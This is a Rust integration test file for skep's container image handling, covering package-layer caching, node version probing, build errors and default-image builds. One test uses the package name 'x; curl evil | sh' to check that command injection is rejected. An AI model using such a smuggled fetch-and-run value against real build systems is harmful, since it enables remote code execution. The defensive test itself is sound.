//! Images that skep makes and looks into: the layer of system packages, the version of node.

use std::{
    collections::{BTreeMap, BTreeSet},
    time::{Duration, Instant},
};

use skep::{
    config::env::FOR_BUILDS,
    engine::{Engine, EngineError, ImageBuild},
    images::{BuildOptions, ImageError, Images, PackageRequests},
};
use tokio::sync::mpsc;

use crate::support::{IMAGE, Trash, World, tar_of};

fn images(world: &World) -> Images {
    images_with(world, BuildOptions::default())
}

fn images_with(world: &World, options: BuildOptions) -> Images {
    let args = FOR_BUILDS.iter();
    let options = BuildOptions {
        args: args.filter_map(|k| Some(((*k).to_owned(), std::env::var(k).ok()?))).collect(),
        ..options
    };
    Images::new(world.engine.clone(), options)
}

fn requests(package: &str, skill: &str) -> PackageRequests {
    BTreeMap::from([(package.to_owned(), BTreeSet::from([skill.to_owned()]))])
}

#[tokio::test]
async fn system_packages_become_one_layer_that_is_built_once() {
    let world = World::new().await;
    // A base of its own, so that no layer of it is there yet.
    let tag = world.image("base", &format!("LABEL run={}", world.prefix)).await;
    let base = world.engine.image(&tag).await.unwrap();
    let images = images(&world);
    let wanted = requests("hello", "greeter");
    let (progress, mut lines) = mpsc::channel(256);
    let (a, b) = tokio::join!(
        images.with_packages(&tag, &base, &wanted, &progress),
        images.with_packages(&tag, &base, &wanted, &progress)
    );
    let ((name, layer), second) = (a.unwrap(), b.unwrap());
    world.later(Trash::Image(name.clone()));
    assert_eq!((&name, &layer), (&second.0, &second.1));
    assert!(name.starts_with("skep-layer:") && name.len() == "skep-layer:".len() + 12, "{name}");
    assert_eq!(layer.user, base.user);
    drop(progress);
    let mut builds = 0;
    while let Some(line) = lines.recv().await {
        builds += usize::from(line.starts_with("Successfully built"));
    }
    assert_eq!(builds, 1);

    let (progress, mut lines) = mpsc::channel(256);
    let start = Instant::now();
    let cached = images.with_packages(&tag, &base, &wanted, &progress).await.unwrap();
    assert_eq!(cached.1.id, layer.id);
    assert!(start.elapsed() < Duration::from_secs(5), "{:?}", start.elapsed());
    drop(progress);
    assert_eq!(lines.recv().await, None);

    let spec = world.spec("hello", &name, "hello; ls /tmp /var/lib/apt/lists").await;
    let output = world.run(&spec).await;
    assert!(output.starts_with("Hello, world!\n"), "{output}");
    assert!(!output.contains("Packages") && !output.contains("skep-"), "{output}");

    world.engine.remove(&spec.name).await.unwrap();
    // Others' layers are kept: this hive is not alone on the engine.
    let all = world.engine.images(skep::images::LABEL_LAYER).await.unwrap();
    let others = all.iter().flat_map(|i| i.tags.clone()).filter(|t| *t != name);
    let removed = images.prune(&others.collect()).await.unwrap();
    assert_eq!(removed, std::slice::from_ref(&name));
    assert!(matches!(world.engine.image(&name).await, Err(EngineError::NotFound(_))));
}

#[tokio::test]
async fn a_package_that_does_not_exist_is_named_with_the_skill_that_asks() {
    let world = World::new().await;
    let base = world.engine.image(IMAGE).await.unwrap();
    let (progress, _lines) = mpsc::channel(256);
    let images = images(&world);
    let wanted = requests("no-such-package-at-all", "greeter");
    let error = images.with_packages(IMAGE, &base, &wanted, &progress).await.unwrap_err();
    assert_eq!(
        error.to_string(),
        "system package no-such-package-at-all, which skill greeter asks for, cannot be installed in image \
         skep-agent:latest: Unable to locate package no-such-package-at-all"
    );
    let evil = requests("x; curl evil | sh", "greeter");
    let error = images.with_packages(IMAGE, &base, &evil, &progress).await.unwrap_err();
    assert!(matches!(&error, ImageError::Packages(m) if m.contains("greeter")), "{error}");
}

#[tokio::test]
async fn the_version_of_node_is_read_from_the_image() {
    let world = World::new().await;
    let base = world.engine.image(IMAGE).await.unwrap();
    let version = images(&world).node_version(&base.id).await.unwrap().expect("node");
    assert!(version.major >= 24, "{version}");
    let command = ["no-such-program".to_owned()];
    let limit = Duration::from_secs(10);
    let none = world.engine.probe(&base.id, &command, limit).await.unwrap();
    assert_eq!(none, None);
    let slow = ["sleep", "60"].map(str::to_owned);
    let error = world.engine.probe(&base.id, &slow, Duration::from_secs(1)).await.unwrap_err();
    assert!(matches!(error, EngineError::Refused(_)), "{error}");
}

#[tokio::test]
async fn a_build_that_fails_says_why_in_its_last_lines() {
    let world = World::new().await;
    let build = ImageBuild {
        tag: format!("skep-test-{}:broken", world.prefix),
        context: tar_of("Dockerfile", &format!("FROM {IMAGE}\nRUN echo before; exit 9\n")),
        args: BTreeMap::new(),
        labels: BTreeMap::new(),
    };
    let (progress, _lines) = mpsc::channel(64);
    let error = world.engine.build(build, progress).await.unwrap_err();
    let EngineError::Refused(text) = error else { panic!("{error}") };
    assert!(text.contains("code: 9") && text.contains("before"), "{text}");
}

#[tokio::test]
async fn an_image_that_nobody_has_is_an_error_with_a_remedy() {
    let world = World::new().await;
    let (progress, _lines) = mpsc::channel(64);
    // A registry that refuses at once, whatever the network is like.
    let name = "127.0.0.1:9/skep/nothing:1";
    let error = images(&world).ensure(name, &progress).await.unwrap_err();
    assert!(matches!(&error, ImageError::Missing { image, .. } if image == name), "{error}");
    assert!(error.to_string().contains("docker pull"), "{error}");
}

#[tokio::test]
async fn the_default_image_is_taken_as_it_is_while_its_inputs_are_the_same() {
    let world = World::new().await;
    let images = images(&world);
    let (progress, _lines) = mpsc::channel(256);
    // Built by this test only where the folder changed since the last `make`.
    let first = images.ensure(IMAGE, &progress).await.unwrap();
    let (progress, mut lines) = mpsc::channel(256);
    let second = images.ensure("skep-agent", &progress).await.unwrap();
    drop(progress);
    assert_eq!(first, second);
    assert_eq!(lines.recv().await, None);
    assert!(first.labels.contains_key("skep.inputs"), "{first:?}");
}

#[tokio::test]
async fn the_default_image_is_built_from_what_the_program_carries() {
    let world = World::new().await;
    let tag = format!("skep-test-{}:agent", world.prefix);
    world.later(Trash::Image(tag.clone()));
    let options = BuildOptions { default_image: Some(tag.clone()), ..BuildOptions::default() };
    let images = images_with(&world, options);
    let (progress, mut lines) = mpsc::channel(4096);
    let built = images.ensure(IMAGE, &progress).await.unwrap();
    drop(progress);
    assert!(lines.recv().await.unwrap().starts_with("building "));
    assert_eq!(built.labels["skep.image"], "agent");
    assert_eq!(built.user, "agent");
    assert!(built.tags.contains(&tag));
    let node = images.node_version(&built.id).await.unwrap();
    assert!(node.is_some_and(|n| n.major >= 24));
}
